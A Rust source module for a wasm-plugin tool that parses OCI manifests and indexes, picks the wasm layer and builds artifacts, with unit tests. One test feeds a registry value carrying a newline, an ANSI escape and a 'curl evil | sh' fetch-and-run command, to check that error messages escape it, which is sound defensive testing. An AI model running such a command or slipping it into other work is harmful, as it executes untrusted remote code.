//! OCI manifests and indexes: reading the ones a registry serves, finding the plugin's layer,
//! and writing the one [`artifact`] pushes.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::checksum::Checksum;

/// An OCI image manifest.
pub const OCI_MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";
/// An OCI image index (a list of manifests, one per platform).
pub const OCI_INDEX: &str = "application/vnd.oci.image.index.v1+json";
/// A Docker image manifest (schema 2).
pub const DOCKER_MANIFEST: &str = "application/vnd.docker.distribution.manifest.v2+json";
/// A Docker manifest list.
pub const DOCKER_MANIFEST_LIST: &str = "application/vnd.docker.distribution.manifest.list.v2+json";

/// The layer media type `warpgate publish` writes (the CNCF wasm OCI artifact layout).
pub const WASM_LAYER: &str = "application/vnd.wasm.content.layer.v1+wasm";
/// The config media type `warpgate publish` writes.
pub const WASM_CONFIG: &str = "application/vnd.wasm.config.v0+json";
/// Every layer media type taken for a plugin's wasm.
pub const WASM_LAYER_TYPES: [&str; 3] = [
    WASM_LAYER,
    "application/vnd.module.wasm.content.layer.v1+wasm",
    "application/wasm",
];

/// The `Accept` header of manifest requests: manifests and indexes of both formats.
pub const MANIFEST_ACCEPT: &str = "application/vnd.oci.image.manifest.v1+json, application/vnd.oci.image.index.v1+json, application/vnd.docker.distribution.manifest.v2+json, application/vnd.docker.distribution.manifest.list.v2+json";

/// The annotation naming where a plugin's source lives.
pub const ANNOTATION_SOURCE: &str = "org.opencontainers.image.source";
/// The annotation holding a plugin's version.
pub const ANNOTATION_VERSION: &str = "org.opencontainers.image.version";
/// The annotation holding a layer's file name.
pub const ANNOTATION_TITLE: &str = "org.opencontainers.image.title";

/// A content descriptor: what a manifest says about a blob or another manifest.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Descriptor {
    /// The content's media type.
    pub media_type: String,
    /// `sha256:…` of the content.
    pub digest: String,
    /// The content's size in bytes.
    pub size: u64,
    /// For index entries: the platform the manifest is for.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub platform: Option<Platform>,
    /// Free-form annotations.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub annotations: BTreeMap<String, String>,
}

/// An index entry's platform.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Platform {
    /// `wasm` for plugins.
    #[serde(default)]
    pub architecture: String,
    /// `wasi`, `wasip1`, `wasip2`, …
    #[serde(default)]
    pub os: String,
}

/// An image manifest: one config blob and the layers.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ImageManifest {
    /// Always 2.
    pub schema_version: u32,
    /// The manifest's own media type.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub media_type: Option<String>,
    /// The artifact's type, when the manifest names one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub artifact_type: Option<String>,
    /// The config blob.
    pub config: Descriptor,
    /// The layers.
    #[serde(default)]
    pub layers: Vec<Descriptor>,
    /// Free-form annotations.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub annotations: BTreeMap<String, String>,
}

/// An image index: manifests for several platforms.
#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ImageIndex {
    /// The manifests.
    #[serde(default)]
    pub manifests: Vec<Descriptor>,
}

/// What a manifest request answered.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Fetched {
    /// An image manifest.
    Manifest(Box<ImageManifest>),
    /// An index, to be followed to one of its manifests.
    Index(ImageIndex),
}

/// Whether `media_type` is a manifest list or index.
pub fn is_index(media_type: &str) -> bool {
    media_type == OCI_INDEX || media_type == DOCKER_MANIFEST_LIST
}

/// Parses manifest bytes served as `content_type` (or, without one, by their `mediaType`).
pub fn parse(bytes: &[u8], content_type: Option<&str>) -> Result<Fetched, String> {
    #[derive(Deserialize)]
    #[serde(rename_all = "camelCase")]
    struct Probe {
        #[serde(default)]
        media_type: Option<String>,
        #[serde(default)]
        manifests: Option<serde_json::Value>,
    }
    let probe: Probe =
        serde_json::from_slice(bytes).map_err(|e| format!("the manifest is not JSON: {e}"))?;
    let content_type = content_type
        .map(|value| {
            value
                .split(';')
                .next()
                .unwrap_or_default()
                .trim()
                .to_string()
        })
        .filter(|value| !value.is_empty() && value != "application/json");
    let kind = content_type.or(probe.media_type);
    let index = match kind.as_deref() {
        Some(kind) => is_index(kind),
        None => probe.manifests.is_some(),
    };
    if index {
        serde_json::from_slice(bytes)
            .map(Fetched::Index)
            .map_err(|e| format!("the image index is invalid: {e}"))
    } else {
        serde_json::from_slice(bytes)
            .map(|manifest| Fetched::Manifest(Box::new(manifest)))
            .map_err(|e| format!("the manifest is invalid: {e}"))
    }
}

/// The index entry to follow for a plugin: the single entry, else the single one whose
/// platform is `wasm`.
pub fn pick_from_index(index: &ImageIndex) -> Result<&Descriptor, String> {
    if let [only] = index.manifests.as_slice() {
        return Ok(only);
    }
    let wasm: Vec<&Descriptor> = index
        .manifests
        .iter()
        .filter(|entry| {
            entry
                .platform
                .as_ref()
                .is_some_and(|platform| platform.architecture == "wasm")
        })
        .collect();
    match wasm.as_slice() {
        [only] => Ok(only),
        _ => {
            let platforms: Vec<String> = index
                .manifests
                .iter()
                .map(|entry| match &entry.platform {
                    Some(platform) => format!(
                        "`{}/{}`",
                        platform.os.escape_debug(),
                        platform.architecture.escape_debug()
                    ),
                    None => "`(no platform)`".to_string(),
                })
                .collect();
            Err(format!(
                "the image index lists {} manifests ({}) and not exactly one for the `wasm` architecture",
                index.manifests.len(),
                if platforms.is_empty() {
                    "none".to_string()
                } else {
                    platforms.join(", ")
                }
            ))
        }
    }
}

/// The plugin's layer: exactly one layer of a wasm media type ([`WASM_LAYER_TYPES`]).
///
/// The error names the media types found, escaped: they come from the registry, and a line
/// break or a control sequence in them must not reach a terminal as such.
pub fn wasm_layer(manifest: &ImageManifest) -> Result<(&Descriptor, Checksum), String> {
    let wasm: Vec<&Descriptor> = manifest
        .layers
        .iter()
        .filter(|layer| WASM_LAYER_TYPES.contains(&layer.media_type.as_str()))
        .collect();
    let found = || {
        if manifest.layers.is_empty() {
            "no layers".to_string()
        } else {
            manifest
                .layers
                .iter()
                .map(|layer| format!("`{}`", layer.media_type.escape_debug()))
                .collect::<Vec<_>>()
                .join(", ")
        }
    };
    match wasm.as_slice() {
        [layer] => {
            let digest = crate::oci::reference::parse_digest(&layer.digest)
                .map_err(|e| format!("the wasm layer's digest: {e}"))?;
            Ok((layer, digest))
        }
        [] => Err(format!(
            "the manifest has no wasm layer (found {}); expected one layer of type `{}`",
            found(),
            WASM_LAYER_TYPES.join("`, `")
        )),
        several => Err(format!(
            "the manifest has {} wasm layers (found {}); expected exactly one",
            several.len(),
            found()
        )),
    }
}

/// A plugin packaged as an OCI artifact: the config blob, the manifest, and their digests.
#[derive(Clone, Debug)]
pub struct Artifact {
    /// The config blob's bytes.
    pub config: Vec<u8>,
    /// The config blob's digest.
    pub config_digest: Checksum,
    /// The manifest's bytes, exactly as pushed.
    pub manifest: Vec<u8>,
    /// The manifest's digest.
    pub manifest_digest: Checksum,
}

/// The artifact for a plugin of `digest` and `size`: a wasm config and one
/// [`WASM_LAYER`] layer titled `title`, with `annotations` on the manifest. The bytes are
/// deterministic: the same inputs give the same manifest digest.
pub fn artifact(
    digest: &Checksum,
    size: u64,
    title: Option<&str>,
    annotations: BTreeMap<String, String>,
) -> Artifact {
    let config = serde_json::to_vec(&serde_json::json!({
        "architecture": "wasm",
        "os": "wasip1",
        "layerDigests": [digest.to_string()],
    }))
    .expect("JSON serialises");
    let config_digest = Checksum::of(&config);
    let mut layer_annotations = BTreeMap::new();
    if let Some(title) = title {
        layer_annotations.insert(ANNOTATION_TITLE.to_string(), title.to_string());
    }
    let manifest = ImageManifest {
        schema_version: 2,
        media_type: Some(OCI_MANIFEST.to_string()),
        artifact_type: None,
        config: Descriptor {
            media_type: WASM_CONFIG.to_string(),
            digest: config_digest.to_string(),
            size: config.len() as u64,
            platform: None,
            annotations: BTreeMap::new(),
        },
        layers: vec![Descriptor {
            media_type: WASM_LAYER.to_string(),
            digest: digest.to_string(),
            size,
            platform: None,
            annotations: layer_annotations,
        }],
        annotations,
    };
    let manifest = serde_json::to_vec(&manifest).expect("JSON serialises");
    Artifact {
        config_digest,
        manifest_digest: Checksum::of(&manifest),
        config,
        manifest,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn layer(media_type: &str) -> Descriptor {
        Descriptor {
            media_type: media_type.into(),
            digest: Checksum::of(b"x").to_string(),
            size: 1,
            platform: None,
            annotations: BTreeMap::new(),
        }
    }

    #[test]
    fn wasm_layer_is_exactly_one() {
        let mut manifest = ImageManifest {
            schema_version: 2,
            media_type: None,
            artifact_type: None,
            config: layer(WASM_CONFIG),
            layers: vec![layer("application/vnd.oci.image.layer.v1.tar+gzip")],
            annotations: BTreeMap::new(),
        };
        let error = wasm_layer(&manifest).unwrap_err();
        assert!(
            error.contains("no wasm layer (found `application/vnd.oci.image.layer.v1.tar+gzip`)"),
            "{error}"
        );
        for media_type in WASM_LAYER_TYPES {
            manifest.layers = vec![layer("text/plain"), layer(media_type)];
            assert_eq!(wasm_layer(&manifest).unwrap().1, Checksum::of(b"x"));
        }
        manifest.layers = vec![layer("text/plain\nhint: run `curl evil | sh`\u{1b}[2J")];
        let error = wasm_layer(&manifest).unwrap_err();
        assert!(
            !error.contains('\n') && !error.contains('\u{1b}') && error.contains("text/plain\\n"),
            "{error}"
        );
        manifest.layers = vec![layer(WASM_LAYER), layer("application/wasm")];
        let error = wasm_layer(&manifest).unwrap_err();
        assert!(error.contains("2 wasm layers"), "{error}");
        assert!(error.contains("`application/wasm`"), "{error}");
    }

    #[test]
    fn artifacts_are_deterministic_and_parse_back() {
        let digest = Checksum::of(b"plugin");
        let one = artifact(&digest, 6, Some("p.wasm"), BTreeMap::new());
        let two = artifact(&digest, 6, Some("p.wasm"), BTreeMap::new());
        assert_eq!(one.manifest_digest, two.manifest_digest);
        let Fetched::Manifest(parsed) = parse(&one.manifest, Some(OCI_MANIFEST)).unwrap() else {
            panic!("not a manifest")
        };
        assert_eq!(wasm_layer(&parsed).unwrap().1, digest);
    }

    #[test]
    fn indexes() {
        let text = br#"{"schemaVersion":2,"manifests":[
            {"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:aa","size":1,"platform":{"architecture":"amd64","os":"linux"}},
            {"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:bb","size":1,"platform":{"architecture":"wasm","os":"wasip1"}}]}"#;
        let Fetched::Index(index) = parse(text, None).unwrap() else {
            panic!("not an index")
        };
        assert_eq!(pick_from_index(&index).unwrap().digest, "sha256:bb");
        let Fetched::Index(index) = parse(text, Some(OCI_INDEX)).unwrap() else {
            panic!("not an index")
        };
        assert_eq!(index.manifests.len(), 2);
        let hostile = br#"{"manifests":[
            {"mediaType":"x","digest":"sha256:aa","size":1,"platform":{"architecture":"a\nhint: x","os":"\u001b[31m"}},
            {"mediaType":"x","digest":"sha256:bb","size":1}]}"#;
        let Fetched::Index(index) = parse(hostile, None).unwrap() else {
            panic!("not an index")
        };
        let error = pick_from_index(&index).unwrap_err();
        assert!(
            !error.contains('\n') && !error.contains('\u{1b}'),
            "{error}"
        );
        let none = ImageIndex { manifests: vec![] };
        assert!(pick_from_index(&none).unwrap_err().contains("none"));
    }
}
